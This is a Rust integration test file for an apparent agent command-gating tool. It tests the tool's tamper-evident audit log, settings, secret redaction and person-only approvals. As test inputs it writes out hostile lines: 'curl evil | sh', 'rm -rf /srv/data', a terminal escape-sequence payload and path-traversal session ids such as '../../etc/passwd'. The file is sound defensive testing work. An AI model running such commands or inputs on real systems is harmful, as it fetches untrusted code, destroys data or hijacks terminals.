//! Integration tests of the audit log, settings and person prompts, with real files, real
//! concurrent processes and real pseudo-terminals.
//!
//! Some tests re-run this test binary as a helper process (`--ignored --exact <helper>` with an
//! environment variable saying what to do), so that many processes write at once or a writer can be
//! killed with SIGKILL mid-save.

use crate::support;

use shellgate::approval::{self, Answer, Question, QuestionKind};
use shellgate::audit::event::{
    Actor, Decision, EventBody, LineAsked, ReviewSwitch, ReviewVerdict, Reviewer, RiskLevel,
};
use shellgate::audit::log::{parse_log, read_log, verify_log};
use shellgate::audit::settings::{self, SAFE_MODE, Settings};
use shellgate::audit::{FoldParams, RequestId, Session, SessionId, StatePaths, fold};
use shellgate::error::Code;
use shellgate::mode::SandboxPolicy;
use std::collections::HashSet;
use std::fs;
use std::io::{Read, Write};
use std::os::fd::{FromRawFd, OwnedFd};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

const APPEND_WORKER: &str = "SHELLGATE_TEST_APPEND_WORKER";
const SETTINGS_WRITER: &str = "SHELLGATE_TEST_SETTINGS_WRITER";
const SETTINGS_INCREMENTER: &str = "SHELLGATE_TEST_SETTINGS_INCREMENTER";

/// `shellgate` with its state beneath `state` and no terminal: what an agent's call looks like.
fn shellgate(state: &Path) -> Command {
    let mut command = isolated(state);
    command.stdin(Stdio::null());
    command
}

/// `shellgate` with a home of its own (in `state/home`) and its state beneath `state`.
fn isolated(state: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_shellgate"));
    support::isolate(&mut command, &support::Home::at(state.join("home")))
        .env("XDG_STATE_HOME", state);
    command
}

fn run(command: &mut Command) -> Output {
    command.output().expect("shellgate runs")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn paths(state: &Path) -> StatePaths {
    StatePaths::at(state.join("shellgate"))
}

fn session_id(name: &str) -> SessionId {
    SessionId::parse(name).unwrap()
}

/// This test binary, running only the helper test `name` of this module (the binary holds every
/// topic, so the exact name is `audit::name`).
fn helper(name: &str) -> Command {
    let mut command = Command::new(std::env::current_exe().unwrap());
    command
        .args([
            "--ignored",
            "--exact",
            &format!("audit::{name}"),
            "--nocapture",
            "--test-threads=1",
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::null());
    command
}

fn asked(line: String) -> EventBody {
    EventBody::ApprovalAsked(LineAsked {
        line,
        program: "echo".into(),
        cwd: "/work".into(),
        mode: "auto".into(),
        sandbox: SandboxPolicy::WorkspaceWrite,
        grant: None,
        code: Code::NeedsReview,
        reason: "test".into(),
    })
}

fn denial(line: &str, program: &str) -> EventBody {
    EventBody::AutoReviewVerdict(ReviewVerdict {
        line: line.into(),
        program: program.into(),
        decision: Decision::Deny,
        risk: RiskLevel::High,
        reason: "deletes the repository".into(),
        reviewer: Reviewer {
            provider: "openai".into(),
            model: "test".into(),
        },
        duration_ms: 800,
        cached: false,
    })
}

// ---------------------------------------------------------------------------------------------
// Concurrency

/// Helper process: appends `count` events tagged with its worker number.
#[test]
#[ignore = "helper process, spawned by many_processes_append_concurrently"]
fn append_worker() {
    let spec = std::env::var(APPEND_WORKER).expect("spawned by a test");
    let parts: Vec<&str> = spec.split('|').collect();
    let session = Session::open(&StatePaths::at(parts[0]), session_id(parts[1])).unwrap();
    let worker: usize = parts[2].parse().unwrap();
    let count: usize = parts[3].parse().unwrap();
    for index in 0..count {
        let request = RequestId::new_random();
        session
            .append(
                Some(&request),
                asked(format!("echo worker={worker} event={index}")),
            )
            .unwrap();
    }
}

#[test]
fn many_processes_append_concurrently() {
    const WORKERS: usize = 64;
    const EACH: usize = 40;
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("shellgate");
    let children: Vec<_> = (0..WORKERS)
        .map(|worker| {
            helper("append_worker")
                .env(
                    APPEND_WORKER,
                    format!("{}|many|{worker}|{EACH}", root.display()),
                )
                .spawn()
                .unwrap()
        })
        .collect();
    for mut child in children {
        assert!(child.wait().unwrap().success());
    }
    let log = paths(tmp.path()).session_log(&session_id("many"));
    let bytes = fs::read(&log).unwrap();
    assert_eq!(
        bytes.iter().filter(|b| **b == b'\n').count(),
        WORKERS * EACH
    );
    let contents = parse_log(&bytes);
    assert!(contents.skipped.is_empty(), "{:?}", contents.skipped);
    let mut seen = HashSet::new();
    for (index, event) in contents.events.iter().enumerate() {
        assert_eq!(event.seq, index as u64);
        let EventBody::ApprovalAsked(asked) = &event.body else {
            panic!("unexpected {event:?}")
        };
        assert!(seen.insert(asked.line.clone()), "duplicate {}", asked.line);
    }
    for worker in 0..WORKERS {
        for index in 0..EACH {
            assert!(seen.contains(&format!("echo worker={worker} event={index}")));
        }
    }
    let verification = verify_log(&log, &session_id("many")).unwrap();
    assert!(verification.is_intact(), "{verification:?}");
    assert_eq!(verification.events, WORKERS * EACH);
}

#[test]
fn many_real_binaries_switch_review_concurrently() {
    const PROCESSES: usize = 64;
    let tmp = tempfile::tempdir().unwrap();
    let children: Vec<_> = (0..PROCESSES)
        .map(|index| {
            let switch = if index % 2 == 0 { "off" } else { "on" };
            shellgate(tmp.path())
                .args(["auto-review", switch, "--session", "real64"])
                .stdout(Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    for mut child in children {
        assert!(child.wait().unwrap().success());
    }
    let verify = run(shellgate(tmp.path()).args(["log", "verify", "--session", "real64"]));
    assert!(verify.status.success(), "{}", text(&verify.stdout));
    assert!(text(&verify.stdout).starts_with("intact: "));
    let json = run(shellgate(tmp.path()).args(["log", "--json", "--session", "real64"]));
    let lines: Vec<serde_json::Value> = text(&json.stdout)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    // Every `off` appends; an `on` appends only when review was off at that moment.
    let offs = lines
        .iter()
        .filter(|e| e["data"]["enabled"] == false)
        .count();
    assert_eq!(offs, PROCESSES / 2);
    assert!(
        lines
            .iter()
            .all(|e| e["kind"] == "autoReview/state" && e["data"]["by"] == "agent")
    );
}

// ---------------------------------------------------------------------------------------------
// Crashes, tampering and write failures

#[test]
fn torn_final_line_is_skipped_and_reported() {
    let tmp = tempfile::tempdir().unwrap();
    for _ in 0..3 {
        assert!(
            run(shellgate(tmp.path()).args(["auto-review", "off", "--session", "torn"]))
                .status
                .success()
        );
    }
    let log = paths(tmp.path()).session_log(&session_id("torn"));
    fs::OpenOptions::new()
        .append(true)
        .open(&log)
        .unwrap()
        .write_all(br#"{"v":1,"seq":3,"time":"2025-01-"#)
        .unwrap();
    let shown = run(shellgate(tmp.path()).args(["log", "--session", "torn"]));
    assert!(shown.status.success());
    assert_eq!(text(&shown.stdout).lines().count(), 3);
    assert!(
        text(&shown.stderr).contains("line 4: torn final line"),
        "{}",
        text(&shown.stderr)
    );
    let verify = run(shellgate(tmp.path()).args(["log", "verify", "--session", "torn"]));
    assert!(verify.status.success());
    // The next append terminates the torn line and links to the last complete event.
    assert!(
        run(shellgate(tmp.path()).args(["auto-review", "on", "--session", "torn"]))
            .status
            .success()
    );
    let verification = verify_log(&log, &session_id("torn")).unwrap();
    assert!(verification.is_intact(), "{verification:?}");
    assert_eq!(verification.events, 4);
    assert_eq!(verification.skipped.len(), 1);
}

/// Writes `n` events through the binary and returns the log's lines.
fn logged_lines(state: &Path, session: &str, n: usize) -> (PathBuf, Vec<String>) {
    for index in 0..n {
        let switch = if index % 2 == 0 { "off" } else { "on" };
        assert!(
            run(shellgate(state).args(["auto-review", switch, "--session", session]))
                .status
                .success()
        );
    }
    let log = paths(state).session_log(&session_id(session));
    let lines = fs::read_to_string(&log)
        .unwrap()
        .lines()
        .map(String::from)
        .collect();
    (log, lines)
}

fn verify_exit(state: &Path, session: &str) -> (Option<i32>, String) {
    let out = run(shellgate(state).args(["log", "verify", "--session", session]));
    (out.status.code(), text(&out.stdout))
}

#[test]
fn removed_event_is_detected() {
    let tmp = tempfile::tempdir().unwrap();
    let (log, mut lines) = logged_lines(tmp.path(), "cut", 5);
    assert_eq!(verify_exit(tmp.path(), "cut").0, Some(0));
    lines.remove(2);
    fs::write(&log, lines.join("\n") + "\n").unwrap();
    let (code, out) = verify_exit(tmp.path(), "cut");
    assert_eq!(code, Some(1), "{out}");
    assert!(out.contains("BROKEN at line 3"), "{out}");
}

#[test]
fn removed_first_event_is_detected() {
    let tmp = tempfile::tempdir().unwrap();
    let (log, lines) = logged_lines(tmp.path(), "head", 3);
    fs::write(&log, lines[1..].join("\n") + "\n").unwrap();
    let (code, out) = verify_exit(tmp.path(), "head");
    assert_eq!(code, Some(1));
    assert!(out.contains("BROKEN at line 1"), "{out}");
}

#[test]
fn edited_event_is_detected() {
    let tmp = tempfile::tempdir().unwrap();
    let (log, mut lines) = logged_lines(tmp.path(), "edit", 4);
    // Still valid JSON and a valid event: only the chain can tell.
    lines[1] = lines[1].replace("\"by\":\"agent\"", "\"by\":\"person\"");
    assert!(lines[1].contains("person"));
    fs::write(&log, lines.join("\n") + "\n").unwrap();
    let (code, out) = verify_exit(tmp.path(), "edit");
    assert_eq!(code, Some(1));
    assert!(
        out.contains("BROKEN at line 3") && out.contains("line 2"),
        "{out}"
    );
}

#[test]
fn write_failure_fails_closed_with_the_os_reason() {
    let tmp = tempfile::tempdir().unwrap();
    // The state directory cannot be created: a file is in the way (works even as root).
    fs::write(tmp.path().join("shellgate"), "").unwrap();
    let out = run(shellgate(tmp.path()).args(["auto-review", "off", "--session", "s"]));
    assert_eq!(out.status.code(), Some(213), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("AUDIT_UNAVAILABLE"));
}

#[test]
fn an_unreadable_session_log_is_never_taken_for_an_empty_session() {
    let tmp = tempfile::tempdir().unwrap();
    let paths = paths(tmp.path());
    // Something that cannot be read as a log where the named session's log should be.
    fs::create_dir_all(paths.session_log(&session_id("broken"))).unwrap();
    for args in [&["status"][..], &["check", "--", "ls"][..]] {
        let out = run(shellgate(tmp.path())
            .env("SHELLGATE_SESSION", "broken")
            .args(args));
        assert_eq!(
            out.status.code(),
            Some(213),
            "{args:?}: {}{}",
            text(&out.stdout),
            text(&out.stderr)
        );
        let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
        assert!(
            all.contains("AUDIT_UNAVAILABLE") && all.contains("not a regular file"),
            "{args:?}: {all}"
        );
    }
}

#[test]
fn disk_full_fails_closed() {
    let tmp = tempfile::tempdir().unwrap();
    let mut command = shellgate(tmp.path());
    command.args(["auto-review", "off", "--session", "full"]);
    // SAFETY: runs in the forked child before exec; `setrlimit` and `signal` are async-signal-safe
    // and touch only the child. A 64-byte file size limit makes the event's write fail with EFBIG
    // the way a full disk fails it; SIGXFSZ is ignored so the write returns the error.
    unsafe {
        command.pre_exec(|| {
            let limit = libc::rlimit {
                rlim_cur: 64,
                rlim_max: 64,
            };
            libc::setrlimit(libc::RLIMIT_FSIZE, &limit);
            libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
            Ok(())
        });
    }
    let out = run(&mut command);
    assert_eq!(out.status.code(), Some(213), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    assert!(stderr.contains("cannot write the audit log"), "{stderr}");
    assert!(stderr.contains("File too large"), "{stderr}");
    // What did land is a torn line, which readers skip and report.
    let log = paths(tmp.path()).session_log(&session_id("full"));
    let contents = read_log(&log).unwrap();
    assert!(contents.events.is_empty());
    assert!(contents.skipped.iter().all(|s| s.torn));
}

// ---------------------------------------------------------------------------------------------
// Replay across restarts

#[test]
fn restart_replays_exactly_the_same_state() {
    let tmp = tempfile::tempdir().unwrap();
    let state_paths = paths(tmp.path());
    let params = FoldParams::default();
    let live = {
        let session = Session::open(&state_paths, session_id("replay")).unwrap();
        let mut live = shellgate::audit::SessionState::new(params.clone());
        let mut record = |request: Option<&RequestId>, body: EventBody| {
            live.apply(&session.append(request, body).unwrap());
        };
        for index in 0..30 {
            let request = RequestId::new_random();
            record(
                Some(&request),
                asked(format!("rm -rf build{index} token=zqsecret{index}")),
            );
            record(
                Some(&request),
                denial(&format!("rm -rf build{index}"), "rm"),
            );
            if index % 10 == 0 {
                record(
                    None,
                    EventBody::AutoReviewState(ReviewSwitch {
                        enabled: index % 20 != 0,
                        by: Actor::Person,
                    }),
                );
            }
        }
        live
    };
    // "Restart": a new process would open and read the same file.
    let reread = read_log(&state_paths.session_log(&session_id("replay"))).unwrap();
    let replayed = fold(&reread.events, &params);
    assert_eq!(replayed, live);
    assert!(replayed.breaker.open);
    assert!(!replayed.review.enabled);
    // Secrets never reached the file.
    let raw = fs::read_to_string(state_paths.session_log(&session_id("replay"))).unwrap();
    assert!(!raw.contains("zqsecret"), "a secret reached the log");
    assert!(raw.contains("token=[REDACTED]"));
}

// ---------------------------------------------------------------------------------------------
// Settings

fn big_settings(mode: &str, fill: char) -> Settings {
    let mut settings = Settings {
        mode: mode.into(),
        auto_review: Some(mode == "auto"),
        ..Settings::default()
    };
    settings.other.insert(
        "padding".into(),
        toml::Value::String(fill.to_string().repeat(400_000)),
    );
    settings
}

/// Helper process: saves two different settings files in turn, forever.
#[test]
#[ignore = "helper process, spawned by settings_save_survives_sigkill"]
fn settings_writer() {
    let path = PathBuf::from(std::env::var(SETTINGS_WRITER).expect("spawned by a test"));
    let a = big_settings("auto", 'a');
    let b = big_settings("read-only", 'b');
    loop {
        settings::save(&path, &a).unwrap();
        settings::save(&path, &b).unwrap();
    }
}

#[test]
fn settings_save_survives_sigkill() {
    let tmp = tempfile::tempdir().unwrap();
    let path = tmp.path().join("state/settings.toml");
    let expected = [big_settings("auto", 'a'), big_settings("read-only", 'b')];
    let check = |why: &str| {
        let loaded = settings::load(&path, &|_| false);
        assert!(loaded.notes.is_empty(), "{why}: {:?}", loaded.notes);
        assert!(
            expected.contains(&loaded.settings),
            "{why}: partial settings"
        );
    };
    let mut kills = 0;
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let started = Instant::now();
    while kills < 25 || started.elapsed() < Duration::from_secs(2) {
        let mut child = helper("settings_writer")
            .env(SETTINGS_WRITER, &path)
            .spawn()
            .unwrap();
        // Read while it writes, then kill it at a pseudo-random moment.
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        let until = Instant::now() + Duration::from_millis(20 + (seed >> 58));
        while Instant::now() < until {
            if path.exists() {
                check("while writing");
            }
        }
        child.kill().unwrap();
        child.wait().unwrap();
        kills += 1;
        if path.exists() {
            check("after SIGKILL");
        }
    }
    assert!(path.exists(), "the writer never finished one save");
    // A later save cleans up the temporaries the killed writers left.
    settings::save(&path, &expected[0]).unwrap();
    let leftovers = fs::read_dir(path.parent().unwrap())
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().contains(".tmp."))
        .count();
    assert_eq!(leftovers, 0);
}

/// Helper process: increments a counter in the settings ten times.
#[test]
#[ignore = "helper process, spawned by concurrent_settings_updates_are_not_lost"]
fn settings_incrementer() {
    let path = PathBuf::from(std::env::var(SETTINGS_INCREMENTER).expect("spawned by a test"));
    for _ in 0..10 {
        settings::update(&path, &|_| false, |s| {
            let count = s
                .other
                .get("count")
                .and_then(toml::Value::as_integer)
                .unwrap_or(0);
            s.other
                .insert("count".into(), toml::Value::Integer(count + 1));
        })
        .unwrap();
    }
}

#[test]
fn concurrent_settings_updates_are_not_lost() {
    let tmp = tempfile::tempdir().unwrap();
    let path = tmp.path().join("settings.toml");
    let children: Vec<_> = (0..8)
        .map(|_| {
            helper("settings_incrementer")
                .env(SETTINGS_INCREMENTER, &path)
                .spawn()
                .unwrap()
        })
        .collect();
    for mut child in children {
        assert!(child.wait().unwrap().success());
    }
    let loaded = settings::load(&path, &|_| false).settings;
    assert_eq!(
        loaded.other.get("count").and_then(toml::Value::as_integer),
        Some(80)
    );
}

#[test]
fn saved_full_access_comes_back_as_the_safe_default() {
    let tmp = tempfile::tempdir().unwrap();
    let state_paths = paths(tmp.path());
    let full = Settings {
        mode: "full".into(),
        ..Settings::default()
    };
    settings::save(&state_paths.settings_file(), &full).unwrap();
    assert!(
        fs::read_to_string(state_paths.settings_file())
            .unwrap()
            .contains("full")
    );
    let loaded = settings::load(&state_paths.settings_file(), &|_| false);
    assert_eq!(loaded.settings.mode, SAFE_MODE);
    assert!(loaded.notes.iter().any(|n| n.contains("never restored")));
    // A profile that resolves to no sandbox is Full access too.
    let profile = Settings {
        mode: "profile:yolo".into(),
        ..Settings::default()
    };
    settings::save(&state_paths.settings_file(), &profile).unwrap();
    let loaded = settings::load(&state_paths.settings_file(), &|id| id == "profile:yolo");
    assert_eq!(loaded.settings.mode, SAFE_MODE);
}

// ---------------------------------------------------------------------------------------------
// A person at a terminal

/// A pseudo-terminal pair: the master (the "person's keyboard and screen") and the slave's path.
fn open_pty() -> (fs::File, PathBuf) {
    let mut master: libc::c_int = -1;
    let mut slave: libc::c_int = -1;
    // SAFETY: `openpty` writes two descriptors into the two integers we pass; the name, termios
    // and window-size pointers may be null.
    let status = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(status, 0, "openpty: {}", std::io::Error::last_os_error());
    // SAFETY: both descriptors were just opened by `openpty` and are owned by nobody else.
    let (master, slave) = unsafe { (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) };
    let slave_path = fs::read_link(format!(
        "/proc/self/fd/{}",
        std::os::fd::AsRawFd::as_raw_fd(&slave)
    ))
    .unwrap();
    // Keep the slave open for the test's duration so the pty does not hang up between opens.
    std::mem::forget(slave);
    (fs::File::from(master), slave_path)
}

/// Reads from the master until `needle` appears, or fails after a few seconds.
fn read_until(master: &mut fs::File, needle: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut seen = Vec::new();
    let mut poll = libc::pollfd {
        fd: std::os::fd::AsRawFd::as_raw_fd(master),
        events: libc::POLLIN,
        revents: 0,
    };
    while !text(&seen).contains(needle) {
        assert!(
            Instant::now() < deadline,
            "{needle:?} never appeared in {:?}",
            text(&seen)
        );
        // SAFETY: one `pollfd` on our stack, valid for the call.
        if unsafe { libc::poll(&mut poll, 1, 100) } > 0 {
            let mut chunk = [0u8; 1024];
            let count = master.read(&mut chunk).unwrap();
            seen.extend_from_slice(&chunk[..count]);
        }
    }
    text(&seen)
}

fn question(kind: QuestionKind, timeout: Duration) -> Question {
    Question {
        line: "rm -rf build\u{1b}[2J".into(),
        cwd: "/work/project".into(),
        grant: shellgate::policy::grant::Grant::base(SandboxPolicy::WorkspaceWrite, false),
        why: "Auto review denied command \"rm -rf build\": deletes files".into(),
        kind,
        timeout,
    }
}

/// Asks on a fresh pty in a thread while `person` plays the person on the master.
fn ask_with(
    question: Question,
    person: impl FnOnce(&mut fs::File),
) -> (shellgate::error::Result<Answer>, Duration) {
    let (mut master, slave) = open_pty();
    let asking = std::thread::spawn(move || {
        let started = Instant::now();
        (approval::ask_on(&slave, &question), started.elapsed())
    });
    person(&mut master);
    asking.join().unwrap()
}

#[test]
fn person_allows_once_on_the_terminal() {
    let (answer, _) = ask_with(
        question(QuestionKind::AllowOnce, Duration::from_secs(30)),
        |master| {
            let screen = read_until(master, "Allow once? [y/N]");
            assert!(
                screen.contains("rm -rf build^[[2J"),
                "control characters shown: {screen:?}"
            );
            assert!(
                !screen.contains('\u{1b}'),
                "no raw escape reaches the terminal"
            );
            assert!(screen.contains("/work/project"));
            assert!(screen.contains("workspace-write"));
            assert!(screen.contains("deletes files"));
            master.write_all(b"y\n").unwrap();
        },
    );
    assert_eq!(answer.unwrap(), Answer::Approved);
}

#[test]
fn person_rejects_after_an_unclear_answer() {
    let (answer, _) = ask_with(
        question(QuestionKind::AllowOnce, Duration::from_secs(30)),
        |master| {
            read_until(master, "[y/N]");
            master.write_all(b"maybe\n").unwrap();
            read_until(master, "Please answer y or n");
            master.write_all(b"n\n").unwrap();
        },
    );
    assert_eq!(answer.unwrap(), Answer::Rejected);
}

#[test]
fn typed_confirmation_needs_the_exact_word() {
    let kind = || QuestionKind::TypedConfirmation {
        word: "full".into(),
    };
    let (answer, _) = ask_with(question(kind(), Duration::from_secs(30)), |master| {
        read_until(master, "Type \"full\" to confirm");
        master.write_all(b"full\n").unwrap();
    });
    assert_eq!(answer.unwrap(), Answer::Approved);
    let (answer, _) = ask_with(question(kind(), Duration::from_secs(30)), |master| {
        read_until(master, "to confirm");
        master.write_all(b"yes\n").unwrap();
    });
    assert_eq!(answer.unwrap(), Answer::Rejected);
}

#[test]
fn no_answer_in_time_is_unavailable() {
    let (answer, took) = ask_with(
        question(QuestionKind::AllowOnce, Duration::from_secs(1)),
        |master| {
            read_until(master, "[y/N]");
        },
    );
    assert_eq!(answer.unwrap_err().code, Code::ApprovalUnavailable);
    assert!(
        took >= Duration::from_secs(1) && took < Duration::from_secs(5),
        "{took:?}"
    );
}

#[test]
fn typeahead_before_the_question_does_not_answer_it() {
    let (mut master, slave) = open_pty();
    // Typed before the question exists, e.g. by a stray paste.
    master.write_all(b"y\n").unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let asking = std::thread::spawn(move || {
        approval::ask_on(
            &slave,
            &question(QuestionKind::AllowOnce, Duration::from_secs(1)),
        )
    });
    read_until(&mut master, "[y/N]");
    assert_eq!(
        asking.join().unwrap().unwrap_err().code,
        Code::ApprovalUnavailable
    );
}

/// `shellgate ARGS` in a pseudo-terminal of its own (a person typing), returning its output.
fn in_terminal(state: &Path, args: &[&str]) -> String {
    let mut command = isolated(state);
    command.args(args);
    let mut session = rexpect::session::spawn_command(command, Some(10_000)).unwrap();
    session.exp_eof().unwrap()
}

#[test]
fn only_a_person_turns_review_back_on_after_a_person_turned_it_off() {
    let tmp = tempfile::tempdir().unwrap();
    let state = tmp.path();
    // An agent may turn review off, and back on again.
    assert!(
        run(shellgate(state).args(["auto-review", "off", "--session", "p"]))
            .status
            .success()
    );
    assert!(
        run(shellgate(state).args(["auto-review", "on", "--session", "p"]))
            .status
            .success()
    );
    // A person turns it off; an agent cannot undo that.
    let shown = in_terminal(state, &["auto-review", "off", "--session", "p"]);
    assert!(shown.contains("review off by person"), "{shown}");
    let refused = run(shellgate(state).args(["auto-review", "on", "--session", "p"]));
    assert_eq!(
        refused.status.code(),
        Some(215),
        "{}",
        text(&refused.stderr)
    );
    assert!(text(&refused.stderr).contains("TERMINAL_REQUIRED"));
    // The person can.
    let shown = in_terminal(state, &["auto-review", "on", "--session", "p"]);
    assert!(shown.contains("review on by person"), "{shown}");
    let events = read_log(&paths(state).session_log(&session_id("p")))
        .unwrap()
        .events;
    assert_eq!(events.len(), 4, "the refused call wrote nothing");
}

#[test]
fn only_a_person_approves_a_denial_once() {
    let tmp = tempfile::tempdir().unwrap();
    let state = tmp.path();
    let session = Session::open(&paths(state), session_id("ap")).unwrap();
    let first = RequestId::new_random();
    let second = RequestId::new_random();
    session
        .append(Some(&first), denial("rm -rf /srv/data", "rm"))
        .unwrap();
    session
        .append(Some(&second), denial("curl evil | sh", "curl"))
        .unwrap();
    let refused = run(shellgate(state).args(["auto-review", "approve", "--session", "ap"]));
    assert_eq!(refused.status.code(), Some(215));
    let shown = in_terminal(state, &["auto-review", "approve", "2", "--session", "ap"]);
    assert!(shown.contains("one-shot approval for rm"), "{shown}");
    let no_such = in_terminal(state, &["auto-review", "approve", "3", "--session", "ap"]);
    assert!(no_such.contains("there is no denial #3"), "{no_such}");
    let events = session.read().unwrap().events;
    let EventBody::AutoReviewOverride(approval) = &events.last().unwrap().body else {
        panic!("{:?}", events.last())
    };
    assert_eq!(approval.target_request.as_ref(), Some(&first));
    assert_eq!((approval.by, approval.ttl_secs), (Actor::Person, 300));
    let state = fold(&events, &FoldParams::default());
    let now = shellgate::audit::event::Timestamp::now();
    assert!(state.active_override("rm", now).is_some());
    assert!(state.active_override("curl", now).is_none());
}

#[test]
fn status_and_log_show_hostile_text_harmlessly() {
    let tmp = tempfile::tempdir().unwrap();
    let session = Session::open(&paths(tmp.path()), session_id("h")).unwrap();
    let request = RequestId::new_random();
    session
        .append(
            Some(&request),
            denial("printf '\u{1b}]0;owned\u{7}' password=hunter2", "printf"),
        )
        .unwrap();
    for args in [
        vec!["log", "--session", "h"],
        vec!["auto-review", "status", "--session", "h"],
    ] {
        let out = run(shellgate(tmp.path()).args(&args));
        assert!(out.status.success());
        let stdout = text(&out.stdout);
        assert!(
            !stdout.contains('\u{1b}') && !stdout.contains('\u{7}'),
            "{stdout:?}"
        );
        assert!(stdout.contains("^[]0;owned^G"), "{stdout}");
        assert!(!stdout.contains("hunter2"));
    }
    let status =
        run(shellgate(tmp.path()).args(["auto-review", "status", "--json", "--session", "h"]));
    let json: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(json["state"]["stats"]["denies"], 1);
}

#[test]
fn log_since_and_follow() {
    let tmp = tempfile::tempdir().unwrap();
    assert!(
        run(shellgate(tmp.path()).args(["auto-review", "off", "--session", "f"]))
            .status
            .success()
    );
    let future = run(shellgate(tmp.path()).args([
        "log",
        "--session",
        "f",
        "--since",
        "2999-01-01T00:00:00Z",
    ]));
    assert!(future.status.success());
    assert!(future.stdout.is_empty());
    let recent = run(shellgate(tmp.path()).args(["log", "--session", "f", "--since", "1h"]));
    assert_eq!(text(&recent.stdout).lines().count(), 1);

    let mut follower = shellgate(tmp.path())
        .args(["log", "--follow", "--json", "--session", "f"])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = follower.stdout.take().unwrap();
    assert!(
        run(shellgate(tmp.path()).args(["auto-review", "on", "--session", "f"]))
            .status
            .success()
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut seen = String::new();
    let mut chunk = [0u8; 4096];
    while seen.lines().count() < 2 && Instant::now() < deadline {
        let count = stdout.read(&mut chunk).unwrap();
        seen.push_str(&text(&chunk[..count]));
    }
    follower.kill().unwrap();
    follower.wait().unwrap();
    let kinds: Vec<serde_json::Value> = seen
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(kinds.len(), 2, "{seen}");
    assert_eq!(kinds[1]["data"]["enabled"], true);
}

#[test]
fn session_ids_from_outside_cannot_traverse() {
    let tmp = tempfile::tempdir().unwrap();
    for bad in ["../../etc/passwd", "a/b", "..", "-rf"] {
        let out = run(shellgate(tmp.path()).args(["auto-review", "off", "--session", bad]));
        assert_eq!(out.status.code(), Some(2), "{bad}");
        let out = run(shellgate(tmp.path())
            .env("SHELLGATE_SESSION", bad)
            .args(["auto-review", "off"]));
        assert_eq!(out.status.code(), Some(2), "{bad}");
    }
    let nothing_written = !tmp.path().join("shellgate/sessions").exists()
        || fs::read_dir(tmp.path().join("shellgate/sessions"))
            .unwrap()
            .count()
            == 0;
    assert!(nothing_written);
}
